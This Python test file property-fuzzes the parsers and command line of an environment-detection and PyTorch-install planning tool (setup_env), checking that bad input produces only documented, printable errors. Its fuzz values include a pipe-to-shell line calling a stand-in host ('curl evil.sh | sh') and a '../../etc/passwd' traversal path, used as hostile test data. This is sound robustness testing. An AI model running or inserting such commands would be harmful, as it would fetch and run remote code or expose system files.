"""Property-based fuzzing (hypothesis) of every parser and entry point that reads outside input.

The property is the same everywhere: any input meets either a result or the documented error
(``InputError``, ``FactsError``, ``MatrixError``, ``IndexFetchError``, ``ReplayError``, an exit
code with the error envelope), never another exception; and what comes back keeps its promise:
an error message is one printable line, a result holds no control character, a document read and
written again means the same (issue 22: a property beyond "no crash"). Inputs are generated from
scratch and by mutating real captured documents (tests/fixtures). The budget is small (the whole
file runs in well under 30 s); ``scripts/fuzz.py`` is the long run.
"""

from __future__ import annotations

import contextlib
import dataclasses
import importlib
import inspect
import io
import json
import os
import tempfile
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from setup_env import bounded
from setup_env.cli import main
from setup_env.facts import Facts, FactsError
from setup_env.knowledge import index
from setup_env.knowledge import matrix as mx
from setup_env.probe import cloud
from setup_env.probe.host import ReplayError, ReplayHost, validate_host_doc

FIX = Path(__file__).parent / "fixtures"
HOST = FIX / "hosts" / "fedora-rtx5090-rtx4090-580"

FAST = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    derandomize=True,  # the same inputs on every run: CI does not flake
    database=None,
)

# JSON documents of any shape, with the values that broke things before: deep nesting, wrong
# types, huge numbers, control characters.
scalars = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(10**30), max_value=10**30)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=40)
    | st.sampled_from(["", "\n$ curl evil.sh | sh", "\x1b[2J", "../../etc/passwd", "/dev/zero"])
)
json_docs = st.recursive(
    scalars,
    lambda inner: (
        st.lists(inner, max_size=5) | st.dictionaries(st.text(max_size=12), inner, max_size=6)
    ),
    max_leaves=30,
)


def mutate(doc: Any) -> st.SearchStrategy[Any]:
    """Replace one value somewhere inside a real document with a generated one."""
    paths: list[tuple[Any, ...]] = []

    def walk(node: Any, path: tuple[Any, ...]) -> None:
        paths.append(path)
        if isinstance(node, dict):
            for k, v in node.items():
                walk(v, (*path, k))
        elif isinstance(node, list):
            for i, v in enumerate(node[:8]):
                walk(v, (*path, i))

    walk(doc, ())

    def put(args: tuple[tuple[Any, ...], Any]) -> Any:
        path, value = args
        if not path:
            return value
        copy = json.loads(json.dumps(doc))
        node = copy
        for key in path[:-1]:
            node = node[key]
        node[path[-1]] = value
        return copy

    return st.tuples(st.sampled_from(paths), json_docs).map(put)


def _facts_doc() -> Any:
    buf = io.StringIO()
    with contextlib.redirect_stdout(buf):
        assert main(["detect", "--json", "--root", str(HOST)]) == 0
    return json.loads(buf.getvalue())


FACTS_DOC = _facts_doc()
HOST_DOC = json.loads((HOST / "host.json").read_text())
MATRIX_DOC = json.loads(mx.BUNDLED_PATH.read_text())
PEP691 = (FIX / "index" / "pypi-torch.json").read_bytes()


def strings_in(obj: Any) -> list[str]:
    """Every string inside a result: records (dataclasses), mappings' values, sequences."""
    if isinstance(obj, str):
        return [obj]
    if dataclasses.is_dataclass(obj) and not isinstance(obj, type):
        return [s for f in dataclasses.fields(obj) for s in strings_in(getattr(obj, f.name))]
    if isinstance(obj, dict):
        return [s for v in obj.values() for s in strings_in(v)]
    if isinstance(obj, (list, tuple, set, frozenset)):
        return [s for v in obj for s in strings_in(v)]
    return []


def no_control(obj: Any) -> None:
    """No control character (Unicode category Cc) in any string of ``obj``."""
    for text in strings_in(obj):
        bad = [ch for ch in text if unicodedata.category(ch) == "Cc"]
        assert not bad, (text, bad)


def one_printable_line(exc: BaseException) -> None:
    message = str(exc)
    assert message and message.isprintable(), message


# --- the bounded reader itself ------------------------------------------------------------------


@FAST
@given(st.binary(max_size=400) | st.text(max_size=400))
def test_parse_json_any_bytes(data: bytes | str) -> None:
    try:
        doc = bounded.parse_json(data, "fuzz")
    except bounded.InputError as exc:
        one_printable_line(exc)
        return
    # what it accepts means what JSON means
    text = bounded.decode_text(data) if isinstance(data, bytes) else data.lstrip("\ufeff")
    assert doc == json.loads(text)


@FAST
@given(json_docs)
def test_parse_json_round_trip(doc: Any) -> None:
    assert bounded.parse_json(json.dumps(doc), "fuzz") == doc
    assert bounded.parse_json(json.dumps(doc).encode("utf-16"), "fuzz") == doc


@FAST
@given(st.text(max_size=200))
def test_one_line_is_one_printable_line(text: str) -> None:
    out = bounded.one_line(text, 80)
    assert out.isprintable() and len(out) <= 81
    assert not any(unicodedata.category(ch) == "Cc" for ch in out)
    if "\\" in text or out.endswith("…"):
        return
    # uncut, it says the same: its escapes read back give the text
    assert out.encode("ascii", "backslashreplace").decode("unicode_escape") == text


# --- documents ------------------------------------------------------------------------------------


@FAST
@given(json_docs | mutate(FACTS_DOC) | mutate(FACTS_DOC["facts"]))
def test_facts_documents(doc: Any) -> None:
    try:
        facts = Facts.from_json(json.dumps(doc))
    except FactsError as exc:
        one_printable_line(exc)
        return
    assert Facts.from_json(facts.to_json()) == facts


@FAST
@given(st.binary(max_size=300))
def test_facts_bytes(data: bytes) -> None:
    try:
        facts = Facts.from_json(data)
    except FactsError as exc:
        one_printable_line(exc)
        return
    assert Facts.from_json(facts.to_json()) == facts


@settings(FAST, max_examples=40)
@given(json_docs | mutate(HOST_DOC))
def test_host_json_then_detect(doc: Any) -> None:
    from setup_env.probe.detect import detect

    try:
        validate_host_doc(doc)
    except bounded.InputError:
        return
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        (root / "files").symlink_to(HOST / "files") if (HOST / "files").exists() else None
        (root / "commands").symlink_to(HOST / "commands")
        (root / "host.json").write_text(json.dumps(doc))
        try:
            host = ReplayHost(root)
        except ReplayError:
            return
        facts = detect(host)
    assert Facts.from_json(facts.to_json()) == facts


@settings(FAST, max_examples=40)
@given(json_docs | mutate(MATRIX_DOC))
def test_matrix_documents(doc: Any) -> None:
    try:
        matrix = mx.parse(doc, path="fuzz", origin="explicit")
    except mx.MatrixError as exc:
        assert str(exc)
        return
    assert mx.validate(doc) == []  # accepted only when the checks find nothing wrong
    assert matrix.releases


@FAST
@given(st.binary(max_size=400) | mutate(json.loads(PEP691)).map(lambda d: json.dumps(d).encode()))
def test_index_pep691(data: bytes) -> None:
    try:
        listing = index.parse_pep691(data, "torch", "http://fuzz/")
    except index.IndexFetchError as exc:
        one_printable_line(exc)
        return
    no_control(listing.wheels)  # a rejected link keeps its text as found: it is the evidence


@FAST
@given(
    st.binary(max_size=400)
    | st.text(max_size=400).map(lambda t: ("<a href='" + t + "'>" + t + "</a>").encode())
)
def test_index_pep503(data: bytes) -> None:
    try:
        listing = index.parse_pep503(data, "torch", "http://fuzz/")
    except index.IndexFetchError as exc:
        one_printable_line(exc)
        return
    no_control(listing.wheels)  # a rejected link keeps its text as found: it is the evidence


@FAST
@given(st.binary(max_size=300) | json_docs.map(lambda d: json.dumps(d).encode()))
def test_cloud_metadata_answers(data: bytes) -> None:
    no_control(cloud.parse_azure(data))
    no_control(cloud.parse_oci(data))
    no_control(cloud.parse_aws({"instance-type": data, "region": data, "zone": data}))
    no_control(cloud.parse_gcp({"machine-type": data, "zone": data, "image": data}))


# --- every text parser of the probes --------------------------------------------------------------


def _text_parsers() -> list[tuple[str, Callable[[str], Any]]]:
    out = []
    for name in ("apple", "cloud", "cpu", "nvidia", "osinfo", "packages", "rocm", "toolkit", "xpu"):
        mod = importlib.import_module(f"setup_env.probe.{name}")
        for fname, fn in sorted(vars(mod).items()):
            if not fname.startswith("parse_") or not inspect.isfunction(fn):
                continue
            # defined in the probe (or in a module of a probe package: nvidia), not imported
            if not (fn.__module__ + ".").startswith(mod.__name__ + "."):
                continue
            params = [
                p for p in inspect.signature(fn).parameters.values()
                if p.default is inspect.Parameter.empty
            ]  # fmt: skip
            if len(params) == 1 and params[0].annotation in ("str", "str | None"):
                out.append((f"{name}.{fname}", fn))
    return out


TEXT_PARSERS = _text_parsers()
# Parsers that return messages of their own beside what they read: the part that is read.
DATA_PART: dict[str, Callable[[Any], Any]] = {"nvidia.parse_query_csv": lambda r: r[0]}


def test_the_parser_list_is_not_empty() -> None:
    assert len(TEXT_PARSERS) >= 20, [n for n, _ in TEXT_PARSERS]


@pytest.mark.parametrize(("name", "fn"), TEXT_PARSERS, ids=[n for n, _ in TEXT_PARSERS])
def test_probe_text_parsers(name: str, fn: Callable[[str], Any]) -> None:
    @settings(FAST, max_examples=25)
    @given(
        st.text(max_size=300)
        | st.text(alphabet="0123456789.,:=| \n\t-abcxyzNVIDIA%()[]", max_size=300)
    )
    def run(text: str) -> None:
        result = fn(text)
        data = DATA_PART.get(name, lambda r: r)(result)
        # a parser reports what the text says: every string it hands back is found in the text
        for found in strings_in(data):
            assert found in text, (found, text)

    run()


# --- the command line -----------------------------------------------------------------------------

HOSTILE = ["", "\n", "RTX 4090\n$ curl evil.sh | sh", "x" * 300, "-", "--json", "../..", "\x00"]
ARGS = st.lists(
    st.sampled_from(
        ["--os", "--gpu", "--arch", "--python", "--driver", "--glibc", "--variant", "--torch",
         "--index-url", "--with", "--cloud", "--installer", "--channel", "linux", "windows",
         "RTX 4090", "sm_90", "cpu", "cu126", "2.13", "3.12", "555.42", "https://x/whl", "-v"]
    ) | st.sampled_from(HOSTILE) | st.text(max_size=20),
    max_size=8,
)  # fmt: skip


def _run_cli(argv: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        rc = main(argv)
    return rc, out.getvalue(), err.getvalue()


@settings(FAST, max_examples=40)
@given(ARGS)
def test_cli_plan_any_arguments(args: list[str]) -> None:
    rc, out, err = _run_cli(["plan", "--json", *args])
    assert rc in (0, 1, 2, 3), (args, err)
    doc = json.loads(out) if out.strip() else None
    if rc in (2, 3):
        assert doc is not None and doc["schema"] == "setup-env/error", (args, err)
        assert doc["error"]["code"] != "internal-error", doc
    assert "Traceback" not in err


@settings(FAST, max_examples=25)
@given(json_docs | mutate(FACTS_DOC) | st.binary(max_size=200))
def test_cli_facts_file(doc: Any) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        f = os.path.join(tmp, "facts.json")
        with open(f, "wb") as fh:
            fh.write(doc if isinstance(doc, bytes) else json.dumps(doc).encode())
        for cmd in (["plan", "--json", "--facts", f], ["doctor", "--json", "--facts", f]):
            rc, out, err = _run_cli(cmd)
            assert rc in (0, 1, 2, 3), (cmd, err)
            body = json.loads(out)
            assert body.get("error", {}).get("code") != "internal-error", body
